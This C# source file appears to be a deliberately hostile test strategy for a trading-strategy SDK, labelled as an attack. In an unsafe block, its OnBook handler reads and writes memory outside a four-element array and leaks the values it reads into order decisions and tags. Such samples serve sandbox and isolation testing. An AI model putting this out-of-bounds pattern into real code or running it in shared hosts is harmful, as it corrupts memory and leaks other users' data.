// Abuses: fixed and pointer arithmetic over the end of an array.
// Harm: reads and writes foreign heap.
// Build with: -p:AllowUnsafeBlocks=true
// Kind: reads or writes outside.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.PointersAttack;

public sealed unsafe class PointersStrategy : Strategy
{
    private readonly long[] _own = new long[4];

    public override void OnBook(in BookEvent bookEvent)
    {
        fixed (long* first = _own)
        {
            for (int index = -8; index < 64; index++) { _n ^= first[index]; }
            first[8] = _n;
        }

        Act(_n);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
